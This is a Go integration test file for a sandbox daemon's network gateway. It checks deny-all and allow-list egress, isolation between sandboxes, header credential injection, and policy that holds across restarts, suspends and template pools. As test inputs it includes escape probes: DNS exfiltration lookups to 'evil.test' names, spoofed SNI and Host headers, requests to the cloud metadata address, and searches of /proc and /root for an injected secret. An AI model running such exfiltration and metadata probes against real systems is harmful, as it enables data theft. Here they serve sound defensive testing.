package gateway_test

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"io"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vishvananda/netns"
	"golang.org/x/net/dns/dnsmessage"

	"github.com/hutch-dev/hutch/internal/backend"
	"github.com/hutch-dev/hutch/internal/backend/native"
	"github.com/hutch-dev/hutch/internal/daemon"
	"github.com/hutch-dev/hutch/internal/daemon/daemontest"
	"github.com/hutch-dev/hutch/internal/netpolicy"
	"github.com/hutch-dev/hutch/internal/netpolicy/gateway"
	"github.com/hutch-dev/hutch/internal/netpolicy/nettest"
	"github.com/hutch-dev/hutch/internal/netpolicy/router"
	"github.com/hutch-dev/hutch/internal/sandbox"
)

func TestMain(m *testing.M) {
	if native.IsInit() {
		native.InitMain()
	}
	os.Exit(m.Run())
}

// world is a daemon whose sandboxes' egress goes to the test internet.
type world struct {
	t  testing.TB
	in *nettest.Internet
	d  *daemon.Daemon
}

func newWorld(t testing.TB, mutate ...func(*daemon.Config)) *world {
	t.Helper()
	nettest.NeedNetworking(t)
	in := nettest.Start(t)
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("the network tests run curl in the sandboxes (from the host base): apt-get install curl")
	}
	d := daemontest.Start(t, append([]func(*daemon.Config){func(c *daemon.Config) {
		c.Network = &gateway.Options{EgressNetNS: in.Path(), DNSUpstream: nettest.DNSAddr.String(), UpstreamRoots: in.CAPool}
	}}, mutate...)...)
	if d.Network == nil {
		t.Fatal("the daemon started without networking")
	}
	return &world{t: t, in: in, d: d}
}

func (w *world) create(pol netpolicy.Policy) string {
	w.t.Helper()
	sb, err := w.d.Manager.Create(context.Background(), "", sandbox.Spec{Network: &pol})
	if err != nil {
		w.t.Fatal(err)
	}
	// The test CA, for talking TLS to test hosts that are not intercepted.
	if err := w.d.Backend.WriteFile(context.Background(), sb.ID, "/workspace/testca.pem", 0o644,
		bytes.NewReader(w.in.CAPEM)); err != nil {
		w.t.Fatal(err)
	}
	return sb.ID
}

// sh runs cmd in the sandbox and returns its output and exit code.
func (w *world) sh(id, cmd string) (string, int) {
	w.t.Helper()
	p, err := w.d.Backend.Exec(context.Background(), id, backend.ExecRequest{Cmd: cmd, Timeout: 30 * time.Second})
	if err != nil {
		w.t.Fatal(err)
	}
	defer p.Close()
	var out bytes.Buffer
	code := -1
	for {
		ev, err := p.Recv()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			w.t.Fatal(err)
		}
		out.Write(ev.Data)
		if ev.Exit != nil {
			code = ev.Exit.Code
		}
	}
	return out.String(), code
}

// curl fetches url in the sandbox (short timeouts) with extra options.
func (w *world) curl(id, opts, url string) (string, bool) {
	w.t.Helper()
	out, code := w.sh(id, "curl -fsS --connect-timeout 3 -m 6 --cacert /workspace/testca.pem "+opts+" "+url+" 2>&1")
	return out, code == 0
}

func (w *world) mustGet(id, opts, url, want string) {
	w.t.Helper()
	out, ok := w.curl(id, opts, url)
	if !ok || !strings.Contains(out, want) {
		evs, _ := w.d.Manager.NetworkEvents(context.Background(), "", id)
		w.t.Logf("events: %+v", evs)
		w.t.Fatalf("curl %s %s: ok=%v, want %q in:\n%s", opts, url, ok, want, out)
	}
}

func (w *world) mustFail(id, opts, url string) {
	w.t.Helper()
	if out, ok := w.curl(id, opts, url); ok || strings.Contains(out, "served-by=") {
		w.t.Fatalf("curl %s %s got through:\n%s", opts, url, out)
	}
}

// inSandboxNS runs f in the sandbox's network namespace (for raw protocol
// checks a shell cannot make).
func (w *world) inSandboxNS(id string, f func() error) error {
	w.t.Helper()
	info, err := w.d.Backend.Inspect(context.Background(), id)
	if err != nil {
		w.t.Fatal(err)
	}
	ns, err := netns.GetFromPid(info.Pid)
	if err != nil {
		w.t.Fatal(err)
	}
	defer ns.Close()
	return router.InNS(ns, f)
}

func TestDenyAllLeaksNothing(t *testing.T) {
	w := newWorld(t)
	id := w.create(netpolicy.Policy{})
	if out, _ := w.sh(id, "ls /sys/class/net"); strings.TrimSpace(out) != "lo" {
		t.Fatalf("interfaces: %q, want only lo", out)
	}
	w.mustFail(id, "", "http://198.18.0.10/")
	w.mustFail(id, "", "https://www.test/")
	if out, code := w.sh(id, "busybox nslookup www.test 2>&1"); code == 0 {
		t.Fatalf("DNS answered under deny-all:\n%s", out)
	}
	if _, code := w.sh(id, "busybox ping -c1 -W1 198.18.0.10"); code == 0 {
		t.Fatal("ICMP got out")
	}
	if _, code := w.sh(id, "busybox ping6 -c1 -W1 2001:db8::1"); code == 0 {
		t.Fatal("IPv6 got out")
	}
	err := w.inSandboxNS(id, func() error {
		c, err := net.Dial("udp4", "198.18.0.10:9999")
		if err == nil {
			c.Close()
			return errors.New("a UDP socket found a route out")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if q := w.in.Queries(); len(q) != 0 {
		t.Fatalf("the outside DNS server was asked %v", q)
	}
}

func TestAllowList(t *testing.T) {
	w := newWorld(t)
	id := w.create(netpolicy.Policy{Mode: netpolicy.AllowList, Allow: []netpolicy.Rule{
		{Host: "www.test"}, {Host: "*.pkg.test", Ports: []int{443}}, {Host: "meta.test"},
		{CIDR: "198.18.0.10", Ports: []int{2222}}}})

	w.mustGet(id, "", "https://www.test/x", "served-by=www.test path=/x")
	w.mustGet(id, "", "http://www.test/", "served-by=www.test")
	w.mustGet(id, "", "https://cdn.pkg.test/", "served-by=cdn.pkg.test")
	w.mustFail(id, "", "http://cdn.pkg.test/")                                     // port 80 not in its rule
	w.mustFail(id, "--resolve api.test:80:198.18.0.11", "http://api.test/")        // a name not on the list
	w.mustFail(id, "--resolve api.test:443:198.18.0.11", "https://api.test/")      // same, over TLS
	w.mustFail(id, "", "http://198.18.0.10/")                                      // a direct IP
	w.mustFail(id, "-k --resolve evil.test:443:198.18.0.10", "https://evil.test/") // SNI evil to an allowed IP
	w.mustFail(id, "-H 'Host: evil.test'", "http://198.18.0.10/")                  // Host evil to an allowed IP
	w.mustFail(id, "", "http://meta.test/")                                        // allowed name, metadata address
	// Spoofing an allowed name toward another address gains nothing: hutch
	// dials the name itself.
	w.mustGet(id, "--resolve www.test:443:198.18.0.12", "https://www.test/", "served-by=www.test")
	w.mustGet(id, "-H 'Host: www.test'", "http://198.18.0.12/", "served-by=www.test")

	// A CIDR rule with a port admits a server-first protocol.
	if out, code := w.sh(id, "echo bye | busybox timeout 5 busybox nc 198.18.0.10 2222"); code != 0 || !strings.Contains(out, "hello from echo") {
		t.Fatalf("the allowed TCP service: code %d\n%s", code, out)
	}
	if out, code := w.sh(id, "echo bye | busybox timeout 5 busybox nc 198.18.0.11 2222"); code == 0 && strings.Contains(out, "hello") {
		t.Fatalf("an unlisted TCP service answered:\n%s", out)
	}

	// DNS: allowed names answer; others get nothing and never leave.
	if out, code := w.sh(id, "busybox nslookup www.test"); code != 0 || !strings.Contains(out, "198.18.0.10") {
		t.Fatalf("nslookup www.test: %d\n%s", code, out)
	}
	if out, code := w.sh(id, "busybox nslookup exfil-s3cret.evil.test"); code == 0 && strings.Contains(out, "198.18") {
		t.Fatalf("a name off the list resolved:\n%s", out)
	}
	// DNS over TCP to an outside server is answered by hutch's resolver,
	// under the same policy.
	if err := w.inSandboxNS(id, func() error { return dnsOverTCP("198.18.0.53:53", "tcp-exfil.evil.test") }); err != nil {
		t.Fatal(err)
	}
	for _, q := range w.in.Queries() {
		if strings.Contains(q, "evil") || strings.Contains(q, "exfil") {
			t.Fatalf("the outside DNS server was asked %q", q)
		}
	}
	// UDP other than DNS (QUIC too) goes nowhere.
	if err := w.inSandboxNS(id, func() error { return udpSilent("198.18.0.10:9999") }); err != nil {
		t.Fatal(err)
	}
	if err := w.inSandboxNS(id, func() error { return udpSilent("198.18.0.10:443") }); err != nil {
		t.Fatal(err)
	}

	// Every decision is in the sandbox's log.
	evs, err := w.d.Manager.NetworkEvents(context.Background(), "", id)
	if err != nil {
		t.Fatal(err)
	}
	var allowed, denied int
	for _, e := range evs {
		if e.Allowed {
			allowed++
		} else {
			denied++
		}
	}
	if allowed == 0 || denied == 0 {
		t.Fatalf("events: %d allowed, %d denied: %+v", allowed, denied, evs)
	}
}

// dnsOverTCP asks server for name over TCP and wants no address back.
func dnsOverTCP(server, name string) error {
	q := dnsmessage.Message{Header: dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name + "."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
	b, _ := q.Pack()
	c, err := net.DialTimeout("tcp4", server, 3*time.Second)
	if err != nil {
		return nil // refused outright is fine too
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	if _, err := c.Write(append([]byte{byte(len(b) >> 8), byte(len(b))}, b...)); err != nil {
		return nil
	}
	var l [2]byte
	if _, err := io.ReadFull(c, l[:]); err != nil {
		return nil
	}
	resp := make([]byte, int(l[0])<<8|int(l[1]))
	if _, err := io.ReadFull(c, resp); err != nil {
		return nil
	}
	var m dnsmessage.Message
	if err := m.Unpack(resp); err != nil {
		return err
	}
	if len(m.Answers) != 0 {
		return errors.New("DNS over TCP answered a name off the list")
	}
	return nil
}

func udpSilent(addr string) error {
	c, err := net.Dial("udp4", addr)
	if err != nil {
		return nil
	}
	defer c.Close()
	_, _ = c.Write([]byte("ping"))
	_ = c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
	if _, err := c.Read(make([]byte, 16)); err == nil {
		return errors.New("UDP to " + addr + " got an answer")
	}
	return nil
}

func TestAllowAllKeepsPrivateThingsPrivate(t *testing.T) {
	w := newWorld(t)
	a := w.create(netpolicy.Policy{Mode: netpolicy.AllowAll})
	b := w.create(netpolicy.Policy{Mode: netpolicy.AllowAll})
	w.mustGet(a, "", "http://www.test/", "served-by=www.test")
	w.mustGet(a, "", "https://api.test/", "served-by=api.test")
	w.mustGet(a, "", "http://198.18.0.12/", "served-by=evil.test") // a direct IP is fine here
	w.mustFail(a, "", "http://meta.test/")
	w.mustFail(a, "", "http://169.254.169.254/")
	w.mustFail(a, "", "http://private.test/")
	w.mustFail(a, "", "http://10.99.0.1/")
	w.mustFail(a, "--resolve x.test:80:127.0.0.1", "http://loopback.test/")

	// The daemon's own API, on the host's loopback and on the gateway.
	_, port, _ := net.SplitHostPort(w.d.TCPAddr)
	w.mustFail(a, "", "http://127.0.0.1:"+port+"/v1/health")
	gw, _ := w.sh(a, "busybox ip -4 route show default | busybox awk '{print $3}'")
	w.mustFail(a, "", "http://"+strings.TrimSpace(gw)+":"+port+"/v1/health")

	// Another sandbox, listening on every address.
	w.sh(b, "mkdir -p /workspace/www && echo secret-of-b > /workspace/www/index.html && busybox httpd -p 8080 -h /workspace/www")
	addr, _ := w.sh(b, "busybox ip -4 -o addr show eth0 | busybox awk '{print $4}' | busybox cut -d/ -f1")
	addr = strings.TrimSpace(addr)
	if net.ParseIP(addr) == nil {
		t.Fatalf("sandbox b's address: %q", addr)
	}
	if out, _ := w.sh(b, "busybox wget -qO- http://127.0.0.1:8080/"); !strings.Contains(out, "secret-of-b") {
		t.Fatalf("b's server is not up: %q", out)
	}
	w.mustFail(a, "", "http://"+addr+":8080/")
	if out, code := w.sh(a, "busybox wget -qO- -T 3 http://"+addr+":8080/ 2>&1"); code == 0 || strings.Contains(out, "secret-of-b") {
		t.Fatalf("sandbox a reached sandbox b:\n%s", out)
	}
}

func TestLivePolicyChange(t *testing.T) {
	w := newWorld(t)
	id := w.create(netpolicy.Policy{Mode: netpolicy.AllowList, Allow: []netpolicy.Rule{{Host: "www.test"}}})
	w.mustGet(id, "", "http://www.test/", "served-by=www.test")
	w.mustFail(id, "--resolve api.test:80:198.18.0.11", "http://api.test/")
	start := time.Now()
	if _, err := w.d.Manager.SetNetwork(context.Background(), "", id, netpolicy.Policy{Mode: netpolicy.AllowList,
		Allow: []netpolicy.Rule{{Host: "api.test"}}}); err != nil {
		t.Fatal(err)
	}
	applied := time.Since(start)
	// The very next connections follow the new policy.
	w.mustFail(id, "--resolve www.test:80:198.18.0.10", "http://www.test/")
	w.mustGet(id, "", "http://api.test/", "served-by=api.test")
	if applied > 100*time.Millisecond {
		t.Fatalf("the policy change took %v to apply", applied)
	}
	// Back to deny-all: the interface goes.
	if _, err := w.d.Manager.SetNetwork(context.Background(), "", id, netpolicy.Policy{Mode: netpolicy.DenyAll}); err != nil {
		t.Fatal(err)
	}
	w.mustFail(id, "", "http://api.test/")
	// And from deny-all to allow-list, live.
	if _, err := w.d.Manager.SetNetwork(context.Background(), "", id, netpolicy.Policy{Mode: netpolicy.AllowList,
		Allow: []netpolicy.Rule{{Host: "www.test"}}}); err != nil {
		t.Fatal(err)
	}
	w.mustGet(id, "", "http://www.test/", "served-by=www.test")
}

func TestCredentialInjection(t *testing.T) {
	w := newWorld(t)
	const secret = "Bearer s3cret-value-42"
	id := w.create(netpolicy.Policy{Mode: netpolicy.AllowList, Allow: []netpolicy.Rule{{Host: "api.test"}, {Host: "www.test"}},
		Credentials: []netpolicy.Credential{{Host: "api.test", Headers: map[string]string{"Authorization": secret}}}})
	// No --cacert: the sandbox trusts the daemon's CA by default.
	out, code := w.sh(id, "curl -sS -D - -m 6 -H 'Authorization: Bearer mine' https://api.test/headers 2>&1")
	if code != 0 || !strings.Contains(out, "served-by=api.test") {
		t.Fatalf("intercepted request: %d\n%s", code, out)
	}
	if strings.Contains(out, "s3cret") {
		t.Fatalf("the secret came back to the sandbox:\n%s", out)
	}
	seen := w.in.Seen()
	last := seen[len(seen)-1]
	if got := last.Values("Authorization"); len(got) != 1 || got[0] != secret {
		t.Fatalf("upstream got Authorization %q, want exactly the injected one", got)
	}
	// A host without a rule is not intercepted: its own certificate shows.
	if out, code := w.sh(id, "curl -sS -m 6 --cacert /workspace/testca.pem https://www.test/ 2>&1"); code != 0 {
		t.Fatalf("www.test through the test CA: %s", out)
	}
	seen = w.in.Seen()
	if len(seen[len(seen)-1].Values("Authorization")) != 0 {
		t.Fatal("a host without a rule got credentials")
	}
	// Nothing in the sandbox holds the value.
	if out, _ := w.sh(id, "env; cat /proc/1/environ 2>/dev/null; grep -rl s3cret /etc /workspace /root /tmp 2>/dev/null"); strings.Contains(out, "s3cret") {
		t.Fatalf("the sandbox can read the secret:\n%s", out)
	}
	pol, err := w.d.Manager.NetworkPolicy(context.Background(), "", id)
	if err != nil || pol.Credentials[0].Headers["Authorization"] != "[redacted]" {
		t.Fatalf("the API shows %+v (%v)", pol, err)
	}
}

// A daemon restart takes the router (and every link) with it; the next
// daemon gives running sandboxes their network back, policy and all.
func TestNetworkSurvivesRestart(t *testing.T) {
	nettest.NeedNetworking(t)
	in := nettest.Start(t)
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("the network tests run curl in the sandboxes (from the host base): apt-get install curl")
	}
	dir := t.TempDir()
	for d := dir; d != "/" && d != os.TempDir(); d = filepath.Dir(d) {
		if err := os.Chmod(d, 0o711); err != nil {
			t.Fatal(err)
		}
	}
	start := func() *daemon.Daemon {
		d, err := daemon.Start(context.Background(), daemon.Config{DataDir: dir, Version: "test",
			Logger:  slog.New(slog.NewTextHandler(io.Discard, nil)),
			Network: &gateway.Options{EgressNetNS: in.Path(), DNSUpstream: nettest.DNSAddr.String(), UpstreamRoots: in.CAPool}})
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	d1 := start()
	w := &world{t: t, in: in, d: d1}
	id := w.create(netpolicy.Policy{Mode: netpolicy.AllowList, Allow: []netpolicy.Rule{{Host: "www.test"}}})
	w.mustGet(id, "", "http://www.test/", "served-by=www.test")
	if err := d1.Stop(); err != nil {
		t.Fatal(err)
	}
	d2 := start()
	t.Cleanup(func() {
		_ = d2.Manager.Delete(context.Background(), "", id)
		_ = d2.Stop()
	})
	w.d = d2
	w.mustGet(id, "", "http://www.test/", "served-by=www.test")
	w.mustFail(id, "--resolve api.test:80:198.18.0.11", "http://api.test/")
}

// Suspend lets the init (and its namespace) go; resume makes a new one,
// which gets the stored policy. A policy set while suspended applies then.
func TestSuspendResumeKeepsPolicy(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	id := w.create(netpolicy.Policy{Mode: netpolicy.AllowList, Allow: []netpolicy.Rule{{Host: "www.test"}}})
	w.mustGet(id, "", "http://www.test/", "served-by=www.test")
	if _, err := w.d.Manager.Pause(ctx, "", id); err != nil {
		t.Fatal(err)
	}
	if _, err := w.d.Manager.Resume(ctx, "", id); err != nil {
		t.Fatal(err)
	}
	w.mustGet(id, "", "http://www.test/", "served-by=www.test")
	if _, err := w.d.Manager.Suspend(ctx, "", id); err != nil {
		t.Fatal(err)
	}
	if _, err := w.d.Manager.SetNetwork(ctx, "", id, netpolicy.Policy{Mode: netpolicy.AllowList,
		Allow: []netpolicy.Rule{{Host: "api.test"}}}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.d.Manager.Resume(ctx, "", id); err != nil {
		t.Fatal(err)
	}
	w.mustGet(id, "", "http://api.test/", "served-by=api.test")
	w.mustFail(id, "--resolve www.test:80:198.18.0.10", "http://www.test/")
}

// A template's build runs under its own policy (fetching from an allowed
// host); its sandboxes get the policy of their create, pooled ones too.
func TestTemplateBuildAndPoolNetwork(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	def := sandbox.TemplateDef{Setup: []string{"curl -fsS http://www.test/fetched-at-build > /workspace/fetched"},
		Network: &netpolicy.Policy{Mode: netpolicy.AllowList, Allow: []netpolicy.Rule{{Host: "www.test"}}}}
	if _, err := w.d.Manager.PutTemplate(ctx, "", "netbuild", def); err != nil {
		t.Fatal(err)
	}
	if _, _, err := w.d.Manager.BuildTemplate(ctx, "", "netbuild", nil); err != nil {
		t.Fatal(err)
	}
	sb, err := w.d.Manager.Create(ctx, "", sandbox.Spec{Template: "netbuild"})
	if err != nil {
		t.Fatal(err)
	}
	if out, _ := w.sh(sb.ID, "cat /workspace/fetched"); !strings.Contains(out, "served-by=www.test path=/fetched-at-build") {
		t.Fatalf("the build did not fetch: %q", out)
	}
	w.mustFail(sb.ID, "", "http://www.test/") // its own policy: deny-all

	// A warm pool: a claimed sandbox gets the create's policy.
	if _, err := w.d.Manager.SetPool(ctx, "", "netbuild", 1); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		tpl, err := w.d.Manager.GetTemplate(ctx, "", "netbuild")
		if err == nil && tpl.PoolReady >= 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the pool never filled")
		}
		time.Sleep(50 * time.Millisecond)
	}
	pooled, err := w.d.Manager.Create(ctx, "", sandbox.Spec{Template: "netbuild",
		Network: &netpolicy.Policy{Mode: netpolicy.AllowList, Allow: []netpolicy.Rule{{Host: "api.test"}}}})
	if err != nil {
		t.Fatal(err)
	}
	w.mustGet(pooled.ID, "", "http://api.test/", "served-by=api.test")
	w.mustFail(pooled.ID, "--resolve www.test:80:198.18.0.10", "http://www.test/")

	// Pooled sandboxes outlive their daemon (pools survive restarts): empty
	// the pool, so the claim's refill is not left running after the test.
	if _, err := w.d.Manager.SetPool(ctx, "", "netbuild", 0); err != nil {
		t.Fatal(err)
	}
	deadline = time.Now().Add(20 * time.Second)
	for {
		sbs, _, err := w.d.Manager.List(ctx, "", sandbox.ListOptions{Limit: 1000,
			States: []sandbox.State{sandbox.Creating, sandbox.Running}})
		if err != nil {
			t.Fatal(err)
		}
		pooled := 0
		for _, sb := range sbs {
			if sb.Spec.Pool != nil {
				pooled++
			}
		}
		if pooled == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d pooled sandboxes still run after the pool was emptied", pooled)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// A policy change ends the open connections it no longer allows (and
// keeps the ones it does), instead of letting them run on.
func TestPolicyChangeClosesOpenConnections(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	id := w.create(netpolicy.Policy{Mode: netpolicy.AllowList, Allow: []netpolicy.Rule{
		{CIDR: "198.18.0.10", Ports: []int{2222}}, {CIDR: "198.18.0.11", Ports: []int{2222}}}})
	info, err := w.d.Backend.Inspect(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	ns, err := netns.GetFromPid(info.Pid)
	if err != nil {
		t.Fatal(err)
	}
	defer ns.Close()
	open := func(addr string) (net.Conn, *bufio.Reader) {
		var c net.Conn
		if err := router.InNS(ns, func() (err error) { c, err = net.DialTimeout("tcp4", addr, 3*time.Second); return err }); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { c.Close() })
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		r := bufio.NewReader(c)
		if line, err := r.ReadString('\n'); err != nil || line != "hello from echo\n" {
			t.Fatalf("%s: %q %v", addr, line, err)
		}
		return c, r
	}
	revoked, rr := open("198.18.0.10:2222")
	kept, kr := open("198.18.0.11:2222")
	if _, err := w.d.Manager.SetNetwork(ctx, "", id, netpolicy.Policy{Mode: netpolicy.AllowList,
		Allow: []netpolicy.Rule{{CIDR: "198.18.0.11", Ports: []int{2222}}}}); err != nil {
		t.Fatal(err)
	}
	revoked.SetReadDeadline(time.Now().Add(3 * time.Second))
	if _, err := rr.ReadString('\n'); !errors.Is(err, io.EOF) && !errors.Is(err, syscall.ECONNRESET) {
		t.Fatalf("the connection the new policy refuses: %v, want it closed", err)
	}
	kept.SetDeadline(time.Now().Add(3 * time.Second))
	if _, err := kept.Write([]byte("still here\n")); err != nil {
		t.Fatal(err)
	}
	if line, err := kr.ReadString('\n'); err != nil || line != "still here\n" {
		t.Fatalf("the connection the new policy keeps: %q %v", line, err)
	}
}
